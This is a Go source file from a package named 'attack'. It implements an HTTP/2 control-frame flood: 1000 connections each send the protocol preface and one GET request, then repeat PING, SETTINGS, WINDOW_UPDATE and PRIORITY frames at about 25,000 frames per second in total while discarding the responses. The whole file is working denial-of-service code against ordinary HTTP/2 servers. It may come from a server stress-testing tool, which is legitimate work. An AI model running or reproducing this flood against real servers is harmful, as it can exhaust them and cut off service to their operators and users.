package attack

import (
	"bytes"
	"context"
	"io"
	"time"

	"golang.org/x/net/http2"
)

// frameConnections is how many connections send frames, and framePause the time between two frames of
// one of them.
const (
	frameConnections = 1000
	framePause       = frameConnections * time.Second / 25_000
)

// framesOfEach are the kinds of frames that each connection sends, one by one.
var framesOfEach = [...]func(f *http2.Framer) error{
	func(f *http2.Framer) error { return f.WritePing(false, [8]byte{}) },
	func(f *http2.Framer) error { return f.WriteSettings() },
	func(f *http2.Framer) error { return f.WriteWindowUpdate(0, 1) },
	func(f *http2.Framer) error { return f.WritePriority(3, http2.PriorityParam{StreamDep: 5}) },
}

// frames sends frames that are no requests, each in a record of its own, and takes the answers.
func frames(ctx context.Context, c *crew, ready func()) error {
	first := append(preface(noWindow), newEncoder().request(1, &request{method: "GET", target: smallKey})...)
	conns := make([]*conn, frameConnections)
	c.each(ctx, len(conns), func(i int) (err error) {
		conns[i], err = c.dial(ctx, i, dialOptions{})
		return err
	})
	return together(ctx, len(conns), func(i int) {
		k := conns[i]
		if k == nil {
			return
		}
		stop := context.AfterFunc(ctx, func() { _ = k.SetDeadline(time.Unix(1, 0)) })
		go func() { _, _ = io.Copy(io.Discard, k) }() // it ends with the connection
		_, err := k.Write(first)
		for n := 0; err == nil && wait(ctx, framePause); n++ {
			var b bytes.Buffer
			_ = framesOfEach[n%len(framesOfEach)](http2.NewFramer(&b, nil)) // to memory
			_, err = k.Write(b.Bytes())
		}
		k.leave(stop() && ctx.Err() == nil)
	}, ready)
}
